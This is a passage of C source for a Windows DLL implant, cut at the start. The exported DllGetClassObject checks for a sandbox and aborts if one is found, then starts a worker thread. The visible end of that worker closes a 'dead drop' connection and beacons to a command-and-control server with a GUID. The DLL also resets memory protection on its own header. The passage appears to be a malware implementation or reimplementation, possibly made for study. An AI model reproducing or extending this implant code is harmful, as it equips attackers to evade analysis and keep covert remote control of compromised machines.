    DEAD_DROP_CLOSE(inet);
    if (c2)
        beacon(args, c2, guid);
done:
    xfree(c2);
    xfree(args);
    return 0;
}

EXPORT HRESULT WINAPI DllGetClassObject(DWORD a, DWORD b, const char *user_agent)
{
    if (!sandbox_ok())
        return E_FAIL;

    ARGS *args = (ARGS *)xalloc(sizeof(ARGS));
    if (!args)
        return E_OUTOFMEMORY;
    args->a = a;
    args->b = b;
    DWORD k = 0;
    if (user_agent)
        for (; user_agent[k] && k + 1 < 512; k++)
            args->ua[k] = (wchar_t)(unsigned char)user_agent[k];
    args->ua[k] = 0;

    HANDLE t = CreateThread(NULL, 0, worker, args, 0, NULL);
    if (!t) {
        xfree(args);
        return E_FAIL;
    }
    CloseHandle(t);

    /* "changes protection again": our own PE header page becomes read-only */
    DWORD old;
    VirtualProtect(&__ImageBase, 0x1000, PAGE_READONLY, &old);
    return S_OK;
}

BOOL WINAPI DllMain(HINSTANCE inst, DWORD reason, LPVOID reserved)
{
    (void)inst;
    (void)reason;
    (void)reserved;
    return TRUE;
}
